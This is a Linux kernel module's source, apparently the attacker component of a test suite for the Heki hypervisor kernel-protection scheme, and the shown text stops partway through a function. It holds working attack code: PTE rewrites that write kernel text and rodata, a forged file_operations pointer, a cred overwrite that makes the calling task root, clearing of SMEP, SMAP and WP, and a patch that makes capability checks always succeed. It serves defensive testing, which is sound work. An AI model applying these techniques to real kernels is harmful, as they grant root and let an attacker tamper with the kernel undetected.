// SPDX-License-Identifier: GPL-2.0
/*
 * heki_attack.ko: the attacker of the inject suite.  It plays an attacker
 * with arbitrary kernel read/write (page tables included) and no new code,
 * one attack per row of inject/attacks.h, and reports the effect it reads
 * back.  It does not depend on heki.ko: the same attacks run against an
 * unprotected kernel ("off"), where every one must take effect.
 *
 *   /sys/kernel/debug/heki_attack/list  the attacks this module implements
 *   /sys/kernel/debug/heki_attack/run   write an id: the attack runs in the
 *                                       writer's context; read the result
 *                                       ("crash_guest" panics: the
 *                                       harness's own fault injection)
 *
 * A result line: "id=ID effect=0|1 landed=0|1 faulted=0|1 violations=N
 * vm_seq_before=B gfn=0x.. rip=0x.. [what=fop|cred object=0x..] [cr=N
 * bits=0x..] detail=..." where effect is the attack's own judgement from
 * the memory, code or register it targeted, landed whether the attacked
 * memory or register read back the attacker's value (the same as effect
 * where that read-back is the judgement), faulted says whether its access
 * faulted, violations is how far the VM's host violation count
 * (HEKI_HC_STATS) moved across the attack and B its value before: the
 * host's log records of this attack are those with vm_seq B+1 .. B+N.
 * what and object name the object a guest checker would report (the
 * victim file, the attacking task), cr and bits the register and the bits
 * a CR attack clears: the report matches them with the host's records
 * (inject/inject_report.c).  An attack that cannot be set up reports
 * effect=-1.
 *
 * Every store goes through heki_atk_store8() and every control-register
 * write through heki_atk_write_cr*(): their RIPs are known, so the suite
 * can match them with the host's violation log.  Whatever took effect is
 * undone before the attack returns.
 */
#define pr_fmt(fmt) "heki_attack: " fmt

#include <linux/module.h>
#include <linux/debugfs.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/slab.h>
#include <linux/vmalloc.h>
#include <linux/delay.h>
#include <linux/ktime.h>
#include <linux/cred.h>
#include <linux/fs.h>
#include <linux/file.h>
#include <linux/uio.h>
#include <linux/anon_inodes.h>
#include <linux/capability.h>
#include <linux/uaccess.h>
#include <asm/kvm_para.h>
#include <asm/pvclock-abi.h>
#include <asm/msr.h>
#include <asm/insn.h>
#include <asm/pgtable.h>
#include <asm/special_insns.h>
#include <asm/tlbflush.h>

#include "heki_abi.h"
#include "attacks.h"

/* heki_attack_asm.S */
extern char heki_atk_gadget[], heki_atk_exec_window[];
int heki_atk_store8(u64 *dst, u64 val, unsigned long *ip);
int heki_atk_store8_tagged(u64 *dst, u64 val, unsigned long *ip, u64 tag);
int heki_atk_write_cr4(unsigned long val, unsigned long *ip);
int heki_atk_write_cr0(unsigned long val, unsigned long *ip);
int heki_atk_vmfunc(unsigned long view);
int heki_atk_call_window(void);
int heki_atk_call(void *code);
int heki_atk_vmsave(unsigned long pa);
int heki_atk_vmxon_vmclear(u64 *pas);

#define GADGET_RAN	0x4e58
/* endbr64 (a NOP without IBT); mov $GADGET_RAN, %eax; ret */
static const u8 gadget_code[] = { 0xf3, 0x0f, 0x1e, 0xfa, 0xb8, 0x58, 0x4e, 0x00, 0x00, 0xc3 };
#define FLIP 0xa5a5a5a5a5a5a5a5ull

struct atk {
	int effect;		/* 1 took effect, 0 did not, -1 not set up */
	int landed;		/* the write read back; -1: the same as effect */
	int faulted;
	unsigned long gfn, rip;
	const char *what;	/* "fop", "cred": what a checker would report */
	unsigned long object;	/* ... about which file or task */
	int cr;			/* a CR attack's register (0 or 4), */
	unsigned long bits;	/* and the bits it clears (0: no CR attack) */
	char detail[224];
};

#define say(a, fmt, ...) \
	scnprintf((a)->detail + strlen((a)->detail), \
		  sizeof((a)->detail) - strlen((a)->detail), fmt " ", ##__VA_ARGS__)

/* ------------------------------------------------------------ plumbing */

static unsigned long (*atk_kallsyms)(const char *name);
static void (*atk_flush_tlb_kernel_range)(unsigned long start, unsigned long end);

/* kallsyms_lookup_name() is not exported since 5.7; a kprobe resolves it. */
static int find_kallsyms(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int ret = register_kprobe(&kp);

	if (ret)
		return ret;
	atk_kallsyms = (void *)kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

static unsigned long atk_pfn(const void *p)
{
	unsigned long a = (unsigned long)p;

	if (is_vmalloc_addr(p) || (a >= MODULES_VADDR && a < MODULES_END))
		return vmalloc_to_pfn(p);
	return slow_virt_to_phys((void *)a) >> PAGE_SHIFT;
}

/* A PTE (or large-page entry) the attack rewrote, to put back. */
struct pte_patch {
	u64 *entry;
	u64 old;
	unsigned long addr;
};

static void flush(unsigned long addr)
{
	atk_flush_tlb_kernel_range(addr & PAGE_MASK, (addr & PAGE_MASK) + PAGE_SIZE);
}

/*
 * The attacker's page-table write: entry = (entry | set) & ~clear, or
 * entry = replace when non-zero.  Returns 0, or -1 (no mapping / refused).
 */
static int pte_rewrite(struct atk *a, struct pte_patch *pp, unsigned long addr,
		       u64 set, u64 clear, u64 replace)
{
	unsigned int level;
	unsigned long ip;
	pte_t *pte = lookup_address(addr, &level);

	pp->entry = NULL;
	if (!pte || !pte_present(*pte)) {
		say(a, "no_mapping_for=0x%lx", addr);
		return -1;
	}
	pp->entry = (u64 *)pte;
	pp->old = READ_ONCE(*pp->entry);
	pp->addr = addr;
	if (heki_atk_store8(pp->entry, replace ?: (pp->old | set) & ~clear, &ip)) {
		say(a, "pte_write_refused");
		pp->entry = NULL;
		return -1;
	}
	flush(addr);
	say(a, "pte_level=%u pte=0x%llx->0x%llx", level, pp->old, READ_ONCE(*pp->entry));
	return 0;
}

static void pte_restore(struct pte_patch *pp)
{
	unsigned long ip;

	if (!pp->entry)
		return;
	heki_atk_store8(pp->entry, pp->old, &ip);
	flush(pp->addr);
	pp->entry = NULL;
}

/*
 * Flips the u64 at @target through @via (the same address, or an alias of
 * it) and reads @target back; undoes a write that landed.
 */
static void write_and_judge(struct atk *a, u64 *target, u64 *via)
{
	u64 old = READ_ONCE(*target), now;
	unsigned long ip;

	a->faulted = heki_atk_store8(via, old ^ FLIP, &ip);
	a->rip = ip;
	now = READ_ONCE(*target);
	a->effect = now != old;
	if (a->effect)
		heki_atk_store8(via, old, &ip);
	say(a, "target=0x%lx old=0x%llx read_back=0x%llx", (unsigned long)target, old, now);
}

/* Writes @target's u64 through the PTE that maps it, made writable. */
static void write_via_pte(struct atk *a, void *target)
{
	struct pte_patch pp;

	if (!target) {
		a->effect = -1;
		say(a, "target_symbol_not_found");
		return;
	}
	a->gfn = atk_pfn(target);
	preempt_disable();
	if (!pte_rewrite(a, &pp, (unsigned long)target, _PAGE_RW, 0, 0))
		write_and_judge(a, target, target);
	else
		a->effect = -1;
	pte_restore(&pp);
	preempt_enable();
}

static struct page *atk_page(const void *p)
{
	return pfn_to_page(atk_pfn(p));
}

/* Writes @target's u64 through a new writable alias of its frame. */
static void alias_write(struct atk *a, void *target)
{
	struct page *page;
	void *alias;

	if (!target) {
		a->effect = -1;
		say(a, "target_symbol_not_found");
		return;
	}
	a->gfn = atk_pfn(target);
	page = atk_page(target);
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias) {
		a->effect = -1;
		say(a, "vmap_failed");
		return;
	}
	say(a, "alias=0x%lx", (unsigned long)alias);
	write_and_judge(a, target, alias + offset_in_page(target));
	vunmap(alias);
}

/*
 * Plants code at @code and calls it: at its own address after clearing NX
 * in its PTE, or (@window) at heki_atk_exec_window after pointing that
 * page's PTE at @code's frame, where a refused fetch can be survived.
 */
static void exec_planted(struct atk *a, void *code, bool window)
{
	unsigned long va = window ? (unsigned long)heki_atk_exec_window : (unsigned long)code;
	struct pte_patch pp;
	unsigned int level;
	pte_t *pte;
	int ret = 0;

	memcpy(code, gadget_code, sizeof(gadget_code));
	a->gfn = atk_pfn(code);
	a->rip = va;
	preempt_disable();
	pte = lookup_address(va, &level);
	if (window && (!pte || level != PG_LEVEL_4K)) {
		say(a, "window_not_mapped_by_a_4k_pte");
		pp.entry = NULL;
		a->effect = -1;
	} else if (pte_rewrite(a, &pp, va, 0, _PAGE_NX, !window ? 0 :
			       ((pte_val(*pte) & ~PTE_PFN_MASK & ~_PAGE_NX) |
				((u64)a->gfn << PAGE_SHIFT)))) {
		a->effect = -1;
	} else {
		ret = window ? heki_atk_call_window() : heki_atk_call(code);
		a->effect = ret == GADGET_RAN;
		a->faulted = ret == -1;
		say(a, "call_returned=0x%x", ret);
	}
	pte_restore(&pp);
	preempt_enable();
}

/* --------------------------------------------- the victim file (f_op) */

static atomic_t forged_ran;

static ssize_t victim_read_iter(struct kiocb *iocb, struct iov_iter *to)
{
	static const char msg[] = "genuine\n";
	size_t n;

	if (iocb->ki_pos >= sizeof(msg) - 1)
		return 0;
	n = copy_to_iter(msg + iocb->ki_pos, sizeof(msg) - 1 - iocb->ki_pos, to);
	iocb->ki_pos += n;
	return n;
}

/* The handler an attacker wants the kernel to call. */
static ssize_t forged_read_iter(struct kiocb *iocb, struct iov_iter *to)
{
	atomic_inc(&forged_ran);
	return 0;
}

/* A const table in this module's rodata: read-only to the guest and the host. */
static const struct file_operations victim_fops = {
	.owner = THIS_MODULE,
	.read_iter = victim_read_iter,
	.llseek = default_llseek,
};

/* Reads the victim file as read() would; 1 if the forged handler ran. */
static int read_victim(struct atk *a, struct file *f)
{
	char buf[16];
	loff_t pos = 0;
	ssize_t n;
	int before = atomic_read(&forged_ran);

	n = kernel_read(f, buf, sizeof(buf), &pos);
	say(a, "read_returned=%zd", n);
	return atomic_read(&forged_ran) != before;
}

static struct file *victim_open(struct atk *a)
{
	struct file *f = anon_inode_getfile("heki_victim", &victim_fops, NULL, O_RDONLY);

	if (IS_ERR(f)) {
		a->effect = -1;
		say(a, "cannot_open_victim=%ld", PTR_ERR(f));
		return NULL;
	}
	a->what = "fop";
	a->object = (unsigned long)f;
	return f;
}

/* ------------------------------------------------------------- attacks */

/*
 * Kernel text that nothing runs while an attack under "off" has changed it
 * (for microseconds): the handler of SysRq-c.
 */
static void *text_target(void)
{
	unsigned long f = atk_kallsyms("sysrq_handle_crash");

	return f ? (void *)f + 8 : NULL;
}

static void heki_atk_text_pte_write(struct atk *a)
{
	write_via_pte(a, text_target());
}

static void heki_atk_text_alias_write(struct atk *a)
{
	alias_write(a, text_target());
}

static void heki_atk_rodata_alias_write(struct atk *a)
{
	alias_write(a, (void *)atk_kallsyms("linux_proc_banner"));
}

static void heki_atk_nx_clear_exec(struct atk *a)
{
	exec_planted(a, heki_atk_gadget, true);
}

static void heki_atk_fops_pte_remap(struct atk *a)
{
	unsigned long page_va = (unsigned long)&victim_fops & PAGE_MASK;
	size_t off = offset_in_page(&victim_fops.read_iter);
	struct page *copy = alloc_page(GFP_KERNEL);
	struct pte_patch pp;
	struct file *f;
	unsigned int level;
	pte_t *pte;

	f = copy ? victim_open(a) : NULL;
	if (!f) {
		if (copy)
			__free_page(copy);
		a->effect = -1;
		return;
	}
	/* The forged page: the same rodata, one pointer changed. */
	memcpy(page_address(copy), (void *)page_va, PAGE_SIZE);
	*(void **)(page_address(copy) + off) = forged_read_iter;
	a->gfn = atk_pfn(&victim_fops);
	pte = lookup_address(page_va, &level);
	if (!pte || level != PG_LEVEL_4K) {
		a->effect = -1;
		say(a, "victim_not_mapped_by_a_4k_pte");
	} else if (!pte_rewrite(a, &pp, page_va, 0, 0,
				(pte_val(*pte) & ~PTE_PFN_MASK) |
				((u64)page_to_pfn(copy) << PAGE_SHIFT))) {
		a->landed = READ_ONCE(victim_fops.read_iter) == forged_read_iter;
		a->effect = read_victim(a, f);
		pte_restore(&pp);
	} else {
		a->effect = -1;
	}
	fput(f);
	__free_page(copy);
}

static void heki_atk_fops_ptr_write(struct atk *a)
{
	void *target = (void *)&victim_fops.read_iter;
	struct page *page = atk_page(target);
	unsigned long ip;
	struct file *f;
	void **alias_ptr;
	void *alias;

	a->gfn = atk_pfn(target);
	f = victim_open(a);
	if (!f)
		return;
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias) {
		a->effect = -1;
		say(a, "vmap_failed");
		fput(f);
		return;
	}
	alias_ptr = alias + offset_in_page(target);
	a->faulted = heki_atk_store8((u64 *)alias_ptr, (u64)forged_read_iter, &ip);
	a->rip = ip;
	a->landed = READ_ONCE(victim_fops.read_iter) == forged_read_iter;
	a->effect = read_victim(a, f);
	if (READ_ONCE(victim_fops.read_iter) != victim_read_iter)
		heki_atk_store8((u64 *)alias_ptr, (u64)victim_read_iter, &ip);
	vunmap(alias);
	fput(f);
}

static void heki_atk_fop_swap(struct atk *a)
{
	struct file_operations *forged = kmemdup(&victim_fops, sizeof(victim_fops), GFP_KERNEL);
	const struct file_operations *orig;
	unsigned long ip;
	struct file *f;

	f = forged ? victim_open(a) : NULL;
	if (!f) {
		kfree(forged);
		a->effect = -1;
		return;
	}
	forged->read_iter = forged_read_iter;
	orig = f->f_op;
	a->gfn = atk_pfn(&f->f_op);
	a->faulted = heki_atk_store8((u64 *)&f->f_op, (u64)forged, &ip);
	a->rip = ip;
	a->landed = READ_ONCE(f->f_op) == forged;
	a->effect = read_victim(a, f);
	heki_atk_store8((u64 *)&f->f_op, (u64)orig, &ip);
	fput(f);
	kfree(forged);
}

/* The task's view: is it root, and does the kernel grant CAP_SYS_ADMIN? */
static int task_is_root(struct atk *a)
{
	int root = uid_eq(current_uid(), GLOBAL_ROOT_UID) &&
		   uid_eq(current_euid(), GLOBAL_ROOT_UID);
	int cap = ns_capable_noaudit(&init_user_ns, CAP_SYS_ADMIN);

	say(a, "uid=%u euid=%u cap_sys_admin=%d", from_kuid(&init_user_ns, current_uid()),
	    from_kuid(&init_user_ns, current_euid()), cap);
	return root && cap;
}

static void heki_atk_cred_uid_root(struct atk *a)
{
	struct cred *c = (struct cred *)current_cred();
	const struct cred *root = (void *)atk_kallsyms("init_cred");
	unsigned long ip;
	u64 *ids = (u64 *)&c->uid;
	int i, f = 0;

	/* uid..fsgid: eight 32-bit ids, written as four u64 zeros. */
	BUILD_BUG_ON(offsetof(struct cred, fsgid) - offsetof(struct cred, uid) != 28);
	if (!root || task_is_root(a)) {
		a->effect = -1;
		say(a, root ? "task_already_root" : "init_cred_not_found");
		return;
	}
	a->gfn = atk_pfn(c);
	a->what = "cred";
	a->object = (unsigned long)current;
	for (i = 0; i < 4; i++)
		f |= heki_atk_store8(&ids[i], 0, &ip);
	f |= heki_atk_store8((u64 *)&c->cap_permitted, *(u64 *)&root->cap_permitted, &ip);
	f |= heki_atk_store8((u64 *)&c->cap_effective, *(u64 *)&root->cap_effective, &ip);
	a->faulted = f;
	a->rip = ip;
	a->landed = !memchr_inv(ids, 0, 4 * sizeof(*ids));
	a->effect = task_is_root(a);
}

static void heki_atk_cred_init_cred(struct atk *a)
{
	struct cred *root = (void *)atk_kallsyms("init_cred");
	unsigned long ip;
	int f;

	if (!root || task_is_root(a)) {
		a->effect = -1;
		say(a, root ? "task_already_root" : "init_cred_not_found");
		return;
	}
	/*
	 * The task's references move to init_cred: take two so that its exit
	 * puts them back.  The old cred leaks; an attacker would not care.
	 */
	get_cred(root);
	get_cred(root);
	a->gfn = atk_pfn(current);
	a->what = "cred";
	a->object = (unsigned long)current;
	f = heki_atk_store8((u64 *)&current->real_cred, (u64)root, &ip);
	f |= heki_atk_store8((u64 *)&current->cred, (u64)root, &ip);
	a->faulted = f;
	a->rip = ip;
	a->landed = READ_ONCE(current->real_cred) == root && READ_ONCE(current->cred) == root;
	a->effect = task_is_root(a);
}

/* Clears @bit of CR0 or CR4 with a raw mov, reads it back, puts it back. */
static void cr_clear(struct atk *a, int cr, unsigned long bit)
{
	int (*wr)(unsigned long, unsigned long *) =
		cr == 4 ? heki_atk_write_cr4 : heki_atk_write_cr0;
	unsigned long flags, old, now, ip;

	a->cr = cr;
	a->bits = bit;
	local_irq_save(flags);
	old = cr == 4 ? __read_cr4() : read_cr0();
	if (!(old & bit)) {
		local_irq_restore(flags);
		a->effect = -1;
		say(a, "bit_0x%lx_not_set_on_this_cpu cr%d=0x%lx", bit, cr, old);
		return;
	}
	a->faulted = wr(old & ~bit, &ip);
	now = cr == 4 ? __read_cr4() : read_cr0();
	a->effect = !(now & bit);
	if (a->effect)
		wr(old, &ip);
	local_irq_restore(flags);
	a->rip = ip;
	say(a, "cr%d=0x%lx read_back=0x%lx", cr, old, now);
}

static void heki_atk_cr4_smep_clear(struct atk *a)
{
	cr_clear(a, 4, X86_CR4_SMEP);
}

static void heki_atk_cr4_smap_clear(struct atk *a)
{
	cr_clear(a, 4, X86_CR4_SMAP);
}

static void heki_atk_cr0_wp_clear(struct atk *a)
{
	cr_clear(a, 0, X86_CR0_WP);
}

/*
 * As text_poke() would, from any ring-0 code: a write window on @target's
 * frame (mode hypercall) and the patch view for its address (modes view
 * and vmfunc); whichever the host grants, then a write through an alias.
 */
static void write_through_patch_channels(struct atk *a, void *target)
{
	phys_addr_t pa = (phys_addr_t)atk_pfn(target) << PAGE_SHIFT;
	long opened, switched;

	opened = kvm_hypercall4(HEKI_HC_WINDOW_OPEN, pa, 1, 0, 0);
	migrate_disable();	/* views are per vCPU */
	switched = kvm_hypercall4(HEKI_HC_VIEW_SWITCH, HEKI_VIEW_PATCH,
				  (unsigned long)target, 0, 0);
	say(a, "window_open=%ld view_switch=%ld", opened, switched);
	alias_write(a, target);
	if (!switched)
		kvm_hypercall4(HEKI_HC_VIEW_SWITCH, HEKI_VIEW_NORMAL, 0, 0, 0);
	migrate_enable();
	if (!opened)
		kvm_hypercall4(HEKI_HC_WINDOW_CLOSE, pa, 1, 0, 0);
}

static void heki_atk_patch_window_abuse(struct atk *a)
{
	void *target = text_target();

	if (!target) {
		a->effect = -1;
		say(a, "target_symbol_not_found");
		return;
	}
	write_through_patch_channels(a, target);
}

/*
 * Lockdown means immutable for data in every mode: a window on read-only
 * data (no text_poke() ever asks for one) is refused even without
 * authentication.
 */
static void heki_atk_window_rodata_write(struct atk *a)
{
	void *target = (void *)atk_kallsyms("linux_proc_banner");

	if (!target) {
		a->effect = -1;
		say(a, "target_symbol_not_found");
		return;
	}
	write_through_patch_channels(a, target);
}

/* The store another vCPU makes while this one holds the window. */
struct remote_store {
	u64 *via, val;
	unsigned long ip;
	int faulted;
};

static void remote_store8(void *arg)
{
	struct remote_store *rs = arg;

	rs->faulted = heki_atk_store8(rs->via, rs->val, &rs->ip);
}

/*
 * The Heki RFC's own window, abused from elsewhere: while this vCPU holds
 * a write window (or the patch view) on a kernel-text frame, as a
 * legitimate text_poke() does for its few microseconds, another vCPU
 * writes a different word of that frame through an alias.  A window is
 * VM-wide, so the other vCPU's write lands; a view is the holding vCPU's
 * only, and with authentication neither is granted for kernel text.
 */
static void heki_atk_window_race_other_vcpu(struct atk *a)
{
	u8 *target = text_target();
	phys_addr_t pa;
	struct page *page;
	struct remote_store rs;
	long opened, switched;
	u64 *word, old;
	void *alias;
	int cpu, other;

	if (!target || num_online_cpus() < 2) {
		a->effect = -1;
		say(a, "%s", target ? "needs_two_online_cpus" : "target_symbol_not_found");
		return;
	}
	/* A word of the frame the text_poke does not touch: the next one. */
	word = (u64 *)(((unsigned long)target & ~7ul) + 16);
	pa = (phys_addr_t)atk_pfn(target) << PAGE_SHIFT;
	a->gfn = atk_pfn(target);
	page = atk_page(target);
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias) {
		a->effect = -1;
		say(a, "vmap_failed");
		return;
	}
	old = READ_ONCE(*word);
	rs = (struct remote_store){ alias + offset_in_page(word), old ^ FLIP };
	cpu = get_cpu();	/* the holder stays here; views are per vCPU */
	other = cpumask_any_but(cpu_online_mask, cpu);
	opened = kvm_hypercall4(HEKI_HC_WINDOW_OPEN, pa, 1, 0, 0);
	switched = kvm_hypercall4(HEKI_HC_VIEW_SWITCH, HEKI_VIEW_PATCH,
				  (unsigned long)target, 0, 0);
	smp_call_function_single(other, remote_store8, &rs, 1);
	if (!switched)
		kvm_hypercall4(HEKI_HC_VIEW_SWITCH, HEKI_VIEW_NORMAL, 0, 0, 0);
	if (!opened)
		kvm_hypercall4(HEKI_HC_WINDOW_CLOSE, pa, 1, 0, 0);
	put_cpu();
	a->rip = rs.ip;
	a->faulted = rs.faulted;
	a->effect = READ_ONCE(*word) != old;
	say(a, "holder_cpu=%d writer_cpu=%d window_open=%ld view_switch=%ld target=0x%lx",
	    cpu, other, opened, switched, (unsigned long)word);
	if (a->effect) {	/* undo, through a window where one is needed */
		unsigned long ip;

		opened = kvm_hypercall4(HEKI_HC_WINDOW_OPEN, pa, 1, 0, 0);
		heki_atk_store8(rs.via, old, &ip);
		if (!opened)
			kvm_hypercall4(HEKI_HC_WINDOW_CLOSE, pa, 1, 0, 0);
	}
	vunmap(alias);
}

static bool host_protects(void);

/* The attacker's fault on the other vCPU, in its IPI handler. */
struct huge_race {
	u64 *q;
	int faulted;
	u64 ns;
	atomic_t started, done;
};

static void huge_race_fault(void *arg)
{
	struct huge_race *hr = arg;
	unsigned long ip;
	u64 t0 = ktime_get_ns();

	atomic_set(&hr->started, 1);
	hr->faulted = heki_atk_store8_tagged(hr->q, FLIP, &ip, HEKI_TEST_DELAY_TAG);
	hr->ns = ktime_get_ns() - t0;
	atomic_set_release(&hr->done, 1);
}

/*
 * How long the fault has to reach the host's level decision (the rig's host
 * then waits 500 ms there), and the tries: L1 may run both vCPUs' threads
 * on one CPU, and then the PROTECT comes only after the fault is done.  A
 * try hit the window when the write landed, or when the PROTECT's zap had
 * to wait for the fault (it holds mmu_lock while the host waits).
 */
#define HUGE_RACE_LEAD_MS 100
#define HUGE_RACE_HIT_MS 100
#define HUGE_RACE_TRIES 3

/*
 * Issue 13 item 4.  The kernel makes frame 5 of a fresh 2 MiB block
 * read-only (HEKI_HC_PROTECT, as set_memory_ro() on a new module's data
 * would) while the attacker on another vCPU writes frame 300, whose
 * second-stage entry was zapped just before.  A host that decides that
 * fault's mapping level before KVM's mmu_seq snapshot, with the PROTECT's
 * store swap and zap in between, installs a 2 MiB entry with frame 0's
 * rights (writable) over the read-only frame.  The attacker's store
 * carries HEKI_TEST_DELAY_TAG in R12, so a rig host (kvm.heki_test_delay_us)
 * holds the fault right after its level decision and the PROTECT lands in
 * that window.  Then the read-only frame is written.  Without protection
 * (off) nobody makes the frame read-only and the write lands.
 */
static void heki_atk_huge_map_race(struct atk *a)
{
	const u64 rwx = HEKI_ATTR_WRITE | HEKI_ATTR_EXEC;
	bool protects = host_protects(), hit = false;
	struct huge_race hr;
	struct page *block;
	phys_addr_t pa, ppa;
	long ret = 0, zap = 0, rel = 0;
	u64 *p, t0, protect_ms = 0;
	int cpu, other = -1, tries;

	if (num_online_cpus() < 2) {
		a->effect = -1;
		say(a, "needs_two_online_cpus");
		return;
	}
	/* Order 9: one naturally aligned 2 MiB region of guest-physical memory. */
	block = alloc_pages(GFP_KERNEL | __GFP_NOWARN, 9);
	if (!block) {
		a->effect = -1;
		say(a, "no_2MiB_block");
		return;
	}
	pa = (phys_addr_t)page_to_pfn(block) << PAGE_SHIFT;
	ppa = pa + 5 * PAGE_SIZE;
	p = page_address(block) + 5 * PAGE_SIZE;
	WRITE_ONCE(*p, 0x5a5a5a5a5a5a5a5aull);
	a->gfn = ppa >> PAGE_SHIFT;
	for (tries = 1; tries <= HUGE_RACE_TRIES; tries++) {
		memset(&hr, 0, sizeof(hr));
		hr.q = page_address(block) + 300 * PAGE_SIZE;
		/* No second-stage entry left in the region (frame 5 released too). */
		if (protects) {
			zap = kvm_hypercall4(HEKI_HC_PROTECT, pa, 512, HEKI_ATTR_RO, 0);
			zap = zap ?: kvm_hypercall4(HEKI_HC_PROTECT, pa, 512, rwx, 0);
		}
		cpu = get_cpu();
		other = cpumask_any_but(cpu_online_mask, cpu);
		smp_call_function_single(other, huge_race_fault, &hr, 0);
		while (!atomic_read(&hr.started))
			cpu_relax();
		mdelay(HUGE_RACE_LEAD_MS);
		t0 = ktime_get_ns();
		if (protects)
			ret = kvm_hypercall4(HEKI_HC_PROTECT, ppa, 1, HEKI_ATTR_RO, 0);
		protect_ms = (ktime_get_ns() - t0) / 1000000;
		while (!atomic_read_acquire(&hr.done))
			cpu_relax();
		put_cpu();
		a->detail[0] = '\0';
		say(a, "tries=%d block_gfn=0x%llx zap=%ld protect=%ld protect_ms=%llu fault_cpu=%d fault_ms=%llu",
		    tries, (u64)pa >> PAGE_SHIFT, zap, ret, protect_ms, other,
		    hr.ns / 1000000);
		write_and_judge(a, p, p);
		hit = a->effect || protect_ms >= HUGE_RACE_HIT_MS;
		if (hit || !protects)
			break;
	}
	say(a, "window_hit=%d", hit);
	if (protects)
		rel = kvm_hypercall4(HEKI_HC_PROTECT, ppa, 1, rwx, 0);
	if (rel) {	/* still read-only at the host: never hand it back */
		say(a, "release=%ld block_leaked", rel);
		return;
	}
	__free_pages(block, 9);
}

/* LKDTM's targets, in this module as LKDTM keeps them in its own. */
static noinline void heki_atk_do_overwritten(void)
{
	pr_info("do_overwritten ran\n");
}

/*
 * Module text is not IMMUTABLE (modules load and unload after lockdown),
 * so the host grants a window on its frame, and the patch view for its
 * address, to any ring-0 caller: a gadget reaching either writes it.
 */
static void heki_atk_patch_module_text(struct atk *a)
{
	write_through_patch_channels(a, (void *)heki_atk_do_overwritten);
}

/*
 * VMFUNC, from any code of the guest: where the host enabled EPTP
 * switching the CPU moves this vCPU to the patch view with no exit and
 * nothing to check, and module text there is writable.  Elsewhere the
 * instruction is #UD and the write meets the normal view.
 */
static void heki_atk_vmfunc_module_text(struct atk *a)
{
	int faulted;

	migrate_disable();	/* the view is this vCPU's */
	faulted = heki_atk_vmfunc(HEKI_VIEW_PATCH);
	say(a, "vmfunc=%s", faulted ? "#UD" : "switched");
	alias_write(a, (void *)heki_atk_do_overwritten);
	if (!faulted)
		heki_atk_vmfunc(HEKI_VIEW_NORMAL);
	migrate_enable();
}

static const u8 atk_nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };

/*
 * Stores @len (<= 8) bytes at @site through a writable alias of its frame:
 * one aligned 8-byte store when they fit in one word, so no half-written
 * instruction is ever seen; two otherwise (only for code nothing runs).
 */
static int alias_store_bytes(struct atk *a, u8 *site, const u8 *b, unsigned int len)
{
	unsigned long off = (unsigned long)site % 8;
	u64 *word = (u64 *)((unsigned long)site & ~7ul), v[2];
	struct page *page = atk_page(site);
	unsigned int i, words = off + len > 8 ? 2 : 1;
	unsigned long ip;
	void *alias;
	int faulted = 0;

	if (len > 8 || offset_in_page(word) + 8 * words > PAGE_SIZE)
		return -1;
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -1;
	v[0] = READ_ONCE(word[0]);
	v[1] = words > 1 ? READ_ONCE(word[1]) : 0;
	memcpy((u8 *)v + off, b, len);
	for (i = 0; i < words && !faulted; i++) {
		faulted = heki_atk_store8(alias + offset_in_page(word + i), v[i], &ip);
		a->rip = ip;
	}
	vunmap(alias);
	return faulted;
}

static long atk_patch(unsigned long site, const u8 *b, unsigned int len)
{
	u64 lo = 0;

	memcpy(&lo, b, len);
	return kvm_hypercall4(HEKI_HC_PATCH, site, len, lo, 0);
}

/* Whether heki.ko protects this kernel (the host's patch call is the way in). */
static bool host_protects(void)
{
	struct heki_stats *st = kzalloc(sizeof(*st), GFP_KERNEL);
	bool on;

	on = st && !kvm_hypercall4(HEKI_HC_STATS, __pa(st), sizeof(*st), 0, 0) &&
	     st->protected_frames;
	kfree(st);
	return on;
}

/*
 * Rewrites the @len bytes at @site into @b as text_poke would: through the
 * host's own patch call where the kernel is protected, through a plain
 * alias write where it is not (or where the host refused).  Judged on the
 * bytes read back; whatever landed is put back.
 */
static void patch_and_judge(struct atk *a, u8 *site, const u8 *b, unsigned int len)
{
	u8 orig[8];
	long ret = -1;

	memcpy(orig, site, len);
	a->gfn = atk_pfn(site);
	if (host_protects()) {
		ret = atk_patch((unsigned long)site, b, len);
		say(a, "host_patch=%ld", ret);
	}
	if (ret)
		a->faulted = alias_store_bytes(a, site, b, len);
	a->effect = !memcmp(site, b, len);
	say(a, "site=%pS was=%*ph now=%*ph", site, len, orig, len, site);
	if (a->effect && (ret || atk_patch((unsigned long)site, orig, len)))
		alias_store_bytes(a, site, orig, len);
}

/* A CALL (0xe8) or JMP (0xe9) rel32 at @site to @dest. */
static void rel32_insn(u8 *insn, u8 op, const u8 *site, unsigned long dest)
{
	s32 rel = (s32)(dest - ((unsigned long)site + 5));

	insn[0] = op;
	memcpy(insn + 1, &rel, 4);
}

/* The ftrace site of @fn (after an endbr64), if it is untraced (a NOP5). */
static u8 *untraced_ftrace_site(const char *fn)
{
	static const u8 endbr64[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
	u8 *p = (u8 *)atk_kallsyms(fn);

	if (p && !memcmp(p, endbr64, 4))
		p += 4;
	return p && !memcmp(p, atk_nop5, 5) ? p : NULL;
}

/*
 * Turns kstrdup()'s ftrace site (a NOP5 while untraced) into a call of a
 * function of the attacker's choosing: ftrace_stub, which only returns,
 * stands for any code-reuse target.  A CALL to a function entry is an
 * encoding the site may hold, which is why authentication alone cannot
 * tell it from the kernel's own.
 */
static void heki_atk_patch_call_retarget(struct atk *a)
{
	u8 *site = untraced_ftrace_site("kstrdup");
	unsigned long stub = atk_kallsyms("ftrace_stub");
	u8 call[5];

	if (!site || !stub) {
		a->effect = -1;
		say(a, "no_untraced_kstrdup_or_ftrace_stub");
		return;
	}
	rel32_insn(call, 0xe8, site, stub);
	patch_and_judge(a, site, call, 5);
}

/*
 * The capability check made a no-op: cap_capable()'s ftrace site becomes
 * "jmp __static_call_return0", so every capable() answers yes.  ftrace
 * only ever writes a NOP5 or a CALL of its own entry there.
 */
static void heki_atk_patch_ftrace_return0(struct atk *a)
{
	u8 *site = untraced_ftrace_site("cap_capable");
	unsigned long ret0 = atk_kallsyms("__static_call_return0");
	u8 jmp[5];

	if (!site || !ret0) {
		a->effect = -1;
